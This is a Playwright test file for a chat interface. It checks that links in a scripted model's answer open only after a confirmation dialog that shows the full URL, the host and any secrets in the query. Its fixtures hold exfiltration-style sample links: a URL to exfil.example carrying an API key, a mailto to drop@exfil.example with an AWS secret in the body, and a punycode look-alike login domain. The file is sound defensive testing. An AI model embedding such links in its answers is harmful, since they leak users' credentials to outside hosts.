// Issue 21's one-click leak, in the browser against a headless host and the scripted model: a link in the model's
// answer carries a secret in its query. A click shows the confirmation with the whole address, the site emphasised
// and the secret listed; nothing is requested and no window opens until Open; Cancel (or Escape) opens nothing and
// gives the focus back to the link; the focus stays in the dialog while it is open.
import type { Page, Request } from '@playwright/test';
import { expect, test } from './support/fixtures';
import { complete, createInUi, openUi } from './support/ui';

const SECRET = 'sk-live-SECRET123';
const LEAK = `https://exfil.example/collect?key=${SECRET}&from=maestro`;
const MAIL = 'mailto:drop@exfil.example?subject=hi&body=AWS_SECRET%3Dabc';
const ANSWER = `Read [the report](${LEAK}) or [write to us](${MAIL}). Also https://xn--pple-43d.com/login here.`;

const dialog = (page: Page) => page.getByTestId('link-confirm');

test('issue 21 one-click links: P7.16 a link with a secret opens only after the confirmation that shows it whole', async ({
  page,
  context,
  llm,
  llmHost,
}) => {
  const requested: string[] = [];
  await context.route('https://exfil.example/**', (route) => {
    requested.push(route.request().url());
    return route.fulfill({ status: 200, contentType: 'text/plain', body: 'got it' });
  });
  await context.route('https://xn--pple-43d.com/**', (route) => {
    requested.push(route.request().url());
    return route.fulfill({ status: 200, body: '' });
  });
  const popups: string[] = [];
  context.on('page', (opened) => popups.push(opened.url()));
  page.on('request', (r: Request) => {
    if (r.url().includes('exfil')) requested.push(r.url());
  });

  llm.push(complete('success', ANSWER));
  await openUi(page, llmHost);
  await createInUi(page, { instruction: 'Summarise the report.', title: 'Report' });
  const body = page.locator('[data-testid="chat-message"][data-kind="result"]').getByTestId('message-body');
  const link = body.getByRole('link', { name: 'the report' });
  await expect(link).toBeVisible({ timeout: 20_000 });

  // A click: the confirmation, and nothing else.
  await link.click();
  await expect(dialog(page)).toBeVisible();
  await expect(dialog(page).getByTestId('link-url')).toHaveText(LEAK);
  await expect(dialog(page).getByTestId('link-host')).toHaveText('exfil.example');
  await expect(dialog(page).locator('.link-url-host')).toHaveText('exfil.example');
  await expect(dialog(page).getByTestId('link-query')).toContainText(`key = ${SECRET}`);
  await expect(dialog(page).getByTestId('link-cancel')).toBeFocused();
  // The focus stays in the dialog.
  for (let i = 0; i < 4; i++) {
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => !!document.activeElement?.closest('[data-testid="link-confirm"]'))).toBe(true);
  }
  await page.waitForTimeout(300);
  expect(requested).toEqual([]);
  expect(popups).toEqual([]);

  // Cancel: nothing opens, the focus is back on the link.
  await dialog(page).getByTestId('link-cancel').click();
  await expect(dialog(page)).toHaveCount(0);
  await expect(link).toBeFocused();
  // Escape cancels too; a middle click is stopped the same way.
  await link.click({ button: 'middle' });
  await expect(dialog(page)).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(dialog(page)).toHaveCount(0);
  await page.waitForTimeout(300);
  expect(requested).toEqual([]);
  expect(popups).toEqual([]);

  // A mail link: the recipient emphasised and its body listed, decoded.
  await body.getByRole('link', { name: 'write to us' }).click();
  await expect(dialog(page).getByTestId('link-host')).toHaveText('drop@exfil.example');
  await expect(dialog(page).getByTestId('link-query')).toContainText('body = AWS_SECRET=abc');
  await dialog(page).getByTestId('link-cancel').click();

  // An autolink to a look-alike host: its punycode name, and the warning.
  await body.getByRole('link', { name: /xn--pple-43d|pple/ }).click();
  await expect(dialog(page).getByTestId('link-host')).toHaveText('xn--pple-43d.com');
  await expect(dialog(page).getByTestId('link-punycode')).toBeVisible();
  await dialog(page).getByTestId('link-cancel').click();
  expect(popups).toEqual([]);

  // Open: now, and only now, the page opens.
  await link.click();
  const popup = context.waitForEvent('page');
  await dialog(page).getByTestId('link-open').click();
  await popup;
  await expect(dialog(page)).toHaveCount(0);
  await expect.poll(() => requested).toContain(LEAK);
  expect(popups.length).toBe(1);
  llm.expectEmpty();
});
